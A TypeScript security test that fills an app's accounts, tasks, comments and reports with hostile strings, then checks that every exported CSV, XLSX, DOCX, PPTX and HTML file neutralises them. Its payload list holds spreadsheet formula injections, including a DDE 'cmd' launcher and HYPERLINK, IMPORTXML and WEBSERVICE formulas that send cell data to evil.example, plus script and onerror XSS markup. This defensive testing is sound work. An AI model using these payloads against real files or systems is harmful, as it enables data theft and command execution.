import { randomUUID } from 'node:crypto';
import { inflateRawSync } from 'node:zlib';
import { readConfig } from '@smops/core/config.js';
import { REPORT_DOCUMENT_FORMATS } from '@smops/core/telling/reports/reports.constants.js';
import { createApp } from '@smops/server/app.js';
import { LOCAL_TOKEN } from '@smops/server/testing.js';
import { type AppAttackContext, type Attack, Tally } from '../attack.js';
import { type Operation, readApi } from '../operations.js';
import { jsonOf, openWire, type Wire } from '../wire.js';

/** Texts that a spreadsheet would run, each with what could come before. */
const FORMULAS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?"&A1,"klik")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|x',
  '-2+3+cmd|x',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  "''=1+1",
  '=1+1\n=2+2',
  '"=1+1',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '=WEBSERVICE("http://evil.example")',
  ',=1+1',
  ';=1+1',
  '\u0001=1+1',
  '\ufeff\u200b=1+1',
];
const MARKUP = '<script>alert(1)</script><img src=x onerror=alert(1)>';
/** What runs when a cell begins with it, also in a program that drops what shows nothing. */
const RUNS = /^[\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}]*[=+\-@\t\r]/u;
const A_NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?%?$/i;

/** A hostile text, in whatever form: an export that has none proves nothing. */
const HOLDS = /evil\.example|SUM\(1|alert\(1\)|=jalan|=1\+1|1\+1/;
/** Nothing was fetched from YouTube. */
const HOLDS_NO_TEXT = new Set(['exportYoutubeVideos']);

/** The cells of a CSV file (RFC 4180). */
function csvCells(text: string): string[] {
  const cells: string[] = [];
  const pattern = /(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g;
  for (const [, quoted, plain] of text.replace(/^\ufeff/, '').matchAll(pattern)) {
    cells.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'));
  }
  return cells;
}

/** The files of a ZIP archive by its directory (APPNOTE, 4.3). */
function unzip(bytes: Buffer): Map<string, string> {
  const files = new Map<string, string>();
  const tail = bytes.lastIndexOf(Buffer.from('PK\x05\x06', 'latin1'));
  let at = bytes.readUInt32LE(tail + 16);
  for (let count = bytes.readUInt16LE(tail + 10); count > 0; count--) {
    const [packed, nameLength, extra, comment, offset] = [
      bytes.readUInt32LE(at + 20),
      bytes.readUInt16LE(at + 28),
      bytes.readUInt16LE(at + 30),
      bytes.readUInt16LE(at + 32),
      bytes.readUInt32LE(at + 42),
    ];
    const name = bytes.toString('utf8', at + 46, at + 46 + nameLength);
    const start = offset + 30 + bytes.readUInt16LE(offset + 26) + bytes.readUInt16LE(offset + 28);
    const data = bytes.subarray(start, start + packed);
    files.set(name, (bytes.readUInt16LE(at + 10) === 8 ? inflateRawSync(data) : data).toString());
    at += 46 + nameLength + extra + comment;
  }
  return files;
}

const unescaped = (text: string) =>
  text.replace(/&(lt|gt|quot|apos|amp|#x?[\da-f]+);/gi, (_, name: string) => {
    if (name.startsWith('#')) return String.fromCodePoint(Number(`0${name.slice(1)}`));
    return { lt: '<', gt: '>', quot: '"', apos: "'", amp: '&' }[name] ?? '';
  });

function lookAtCells(tally: Tally, what: string, cells: string[]): void {
  for (const cell of cells) {
    tally.expect(
      !RUNS.test(cell) || A_NUMBER.test(cell),
      `${what}: a cell begins ${JSON.stringify(cell.slice(0, 60))}`,
    );
  }
}

/** Something hostile in everything that can be exported; the ids that the exports need. */
async function fill({ app, seed }: AppAttackContext, wire: Wire): Promise<Record<string, string>> {
  const texts = [...FORMULAS, MARKUP];
  for (const [at, text] of texts.entries()) {
    const line = text.replace(/[\r\n\t]/g, ' ').trim();
    await wire.asOwner('POST', '/api/accounts', {
      firstName: line,
      lastName: line,
      emailAddress: `=cmd|${seed}-${at}@contoh.example`,
    });
    await wire.asOwner('POST', '/api/tasks', {
      date: '2026-11-21',
      socialPlatform: 'Facebook',
      task: '["Like"]',
      requirements: text,
    });
    await wire.asOwner('POST', '/api/whatsapps', {
      phoneNumber: `+6019${3_000_000 + (seed % 1000) * 100 + at}`,
      whatsappName: line,
      state: 'Selangor',
      groupName: line,
    });
  }
  const comments = texts.map((message, at) => ({
    message: `${message} jalan`,
    from: { name: message },
    id: `=${at}`,
    permalink_url: 'https://example.com/=1',
  }));
  const variables = ['=jalan', '@SUM(1)', '+klik', 'jalan'];
  const start = async (path: string, body: object) => {
    const answer = await wire.asOwner('POST', path, body);
    const made = jsonOf<Record<string, string>>(answer);
    if (answer.status >= 300)
      throw new Error(`${path} answered ${answer.status}: ${answer.text.slice(0, 200)}`);
    return made.task_id ?? made.taskId ?? made.explorationId ?? made.id ?? '';
  };
  const until = async (path: string) => {
    for (let tries = 0; tries < 300; tries++) {
      const { text } = await wire.asOwner('GET', path);
      if (/"status":"(completed|failed)"/.test(text)) return;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    throw new Error(`${path} does not end`);
  };
  const run = (name: string, some = comments) => ({
    comments_data: some,
    variables,
    api_provider: 'local',
    file_name: name,
  });
  const a = await start('/api/fb-analyzer/analyze', run('=a.json'));
  const b = await start('/api/fb-analyzer/analyze', run('=b.json', comments.toReversed()));
  for (const id of [a, b]) await until(`/api/fb-analyzer/task/${id}`);
  const side = (name: string) => ({ comments_data: comments, file_name: name });
  const compared = await start('/api/fb-analyzer/compare', {
    variables,
    a: side('=a'),
    b: side('@b'),
    api_provider: 'local',
  });
  await until(`/api/fb-analyzer/compare/${compared}`);
  // A theme is what enough comments mention; its examples are their texts.
  const spoken = comments.flatMap((comment) =>
    ['jalan banyak lubang', 'jalan raya teruk', 'jalan jem setiap hari'].map((words, at) => ({
      ...comment,
      message: `${comment.message} ${words}`,
      id: `${comment.id}-${at}`,
    })),
  );
  const explored = await start('/api/fb-analyzer/explore', { comments_data: spoken, file_name: '=e.json' });
  await wire.asOwner('POST', `/api/fb-analyzer/task/${a}/draw`, { size: 100 });
  const book = await wire.asOwner('POST', '/api/codebooks', {
    name: '=buku',
    variables: variables.map((name, at) => ({ name, definition: texts[at], terms: [`${name} 1+1`] })),
  });
  const { id: codebook } = jsonOf<{ id: string }>(book);
  if (book.status >= 300) throw new Error(`the codebook answered ${book.status}: ${book.text}`);
  const judged = await wire.asOwner('PUT', `/api/fb-analyzer/task/${a}/comments/0/judgement`, {
    tags: Object.fromEntries(variables.map((variable) => [variable, true])),
  });
  if (judged.status >= 300) throw new Error(`the judgement answered ${judged.status}: ${judged.text}`);

  const form = [
    '--kopi\r\nContent-Disposition: form-data; name="taskId"\r\n\r\nTASK-0001\r\n',
    `--kopi\r\nContent-Disposition: form-data; name="file"; filename="=x.json"\r\nContent-Type: application/json\r\n\r\n${JSON.stringify(comments)}\r\n`,
    '--kopi--\r\n',
  ].join('');
  const record = await wire.send('/api/sentiments/upload', {
    method: 'POST',
    headers: { authorization: `Bearer ${LOCAL_TOKEN}`, 'content-type': 'multipart/form-data; boundary=kopi' },
    body: form,
  });
  const { id } = jsonOf<{ id: number }>(record);
  if (record.status >= 300)
    throw new Error(`the upload answered ${record.status}: ${record.text.slice(0, 200)}`);
  await wire.asOwner('POST', '/api/sentiments/import', {
    kind: 'records',
    rows: texts.map((text, at) => ({
      taskId: 'TASK-0001',
      analyzeDate: `2026-11-${10 + at}`,
      sentimentScore: 5,
      aiSummary: text,
    })),
  });

  const { db } = app.connection;
  const posts = texts.map((message, position) => ({
    page: 'contoh',
    postId: `=${randomUUID()}`,
    position,
    createdTime: new Date(),
    message,
    fullPicture: null,
    permalinkUrl: 'https://www.facebook.com/contoh/posts/1',
    reactionCount: 1,
    commentCount: 1,
    shareCount: 1,
  }));
  await db.insertInto('facebookPosts').values(posts).execute();
  return { a, b, id: String(id), taskId: a, codebook, compared, explorationId: explored };
}

function addressesOf(
  { id, path, parameters }: Operation,
  ids: Record<string, string>,
  feeds: string[],
): string[] {
  if (id === 'readFeed') return feeds;
  if (id === 'exportReport') {
    const subjects = [`run/${ids.a}`, `comparison/${ids.compared}`, 'sentiments/TASK-0001'];
    return subjects.flatMap((one) =>
      REPORT_DOCUMENT_FORMATS.map((format) => `/api/reports/${one}/export?format=${format}`),
    );
  }
  const format = parameters.find(({ name }) => name === 'format');
  const formats = (format?.schema.enum ?? ['csv']) as string[];
  const filled = path.replace(
    /\{(\w+)\}/g,
    (_, name: string) => (id === 'exportComparison' ? ids.compared : ids[name]) ?? '1',
  );
  const query = id === 'exportAgreement' ? `&a=${ids.a}&b=${ids.b}` : '';
  return formats.map((one) => `${filled}?format=${one}${query}`);
}

/** Every export in every format, and the feeds that spreadsheets read, full of formulas and markup. */
export const formulas: Attack = {
  name: 'formulas',
  claim: 'no cell of any exported file is run by a spreadsheet, and no report shows markup of data',
  async run(context) {
    const { app } = context;
    const tally = new Tally();
    const config = readConfig({
      SMOPS_DATA_DIR: app.runtime.config.dataDir,
      FACEBOOK_PAGE_ID: 'contoh',
      FACEBOOK_PAGE_TOKEN: 'x',
      FACEBOOK_GRAPH_URL: 'http://127.0.0.1:9',
      YOUTUBE_API_KEY: 'x',
      YOUTUBE_CHANNEL: '@contoh',
      YOUTUBE_URL: 'http://127.0.0.1:9',
    });
    const wire = await openWire({ ...app, app: createApp({ ...app.runtime, config }) });
    try {
      const ids = await fill(context, wire);
      const feeds: string[] = [];
      for (const list of ['accounts', 'tasks', 'whatsapps']) {
        const made = await wire.asOwner('POST', '/api/feeds', { list, name: 'Excel' });
        if (made.status === 201) feeds.push(jsonOf<{ path: string }>(made).path);
      }
      const api = readApi(jsonOf(await wire.asOwner('GET', '/api/openapi.json')));
      const hostile = new Set<string>();
      const exporting = api.operations.filter(({ id }) => id.startsWith('export') || id === 'readFeed');
      for (const operation of exporting) {
        for (const address of addressesOf(operation, ids, feeds)) {
          const file = await wire.asOwner('GET', address);
          // Nothing has been fetched from YouTube: there is nothing to export.
          if (operation.id === 'exportYoutubeVideos' && file.status >= 400) continue;
          const what = address.replace(/[\da-f]{8}-[\da-f-]{27}|feed_[\w-]+/, '…');
          tally.expect(file.status === 200, `${what} answers ${file.status}: ${file.text.slice(0, 120)}`);
          if (file.status !== 200) continue;
          tally.expect(
            /^attachment|^inline/.test(String(file.headers['content-disposition'] ?? 'attachment')),
            `${what}: shown as a page`,
          );
          const whole = /xlsx|docx|pptx/.test(address) ? [...unzip(file.body).values()].join('') : file.text;
          if (HOLDS.test(whole)) hostile.add(operation.id);
          if (/csv/.test(address)) lookAtCells(tally, what, csvCells(file.text));
          if (/html|docx|pptx/.test(address))
            tally.expect(
              !whole.includes('<script>alert') && !whole.includes('<img src=x'),
              `${what}: shows markup`,
            );
          if (/xlsx/.test(address)) {
            for (const [name, xml] of unzip(file.body)) {
              tally.expect(!/<f[ >]/.test(xml), `${what}: ${name} has a formula`);
              lookAtCells(
                tally,
                `${what} ${name}`,
                [...xml.matchAll(/<t\b[^>]*>([^<]*)<\/t>/g)].map(([, text]) => unescaped(text ?? '')),
              );
            }
          }
        }
      }
      for (const { id } of exporting) {
        const isThere = hostile.has(id) || HOLDS_NO_TEXT.has(id);
        tally.expect(isThere, `${id} exported none of the hostile texts`);
      }
      return tally;
    } finally {
      await wire.close();
    }
  },
};
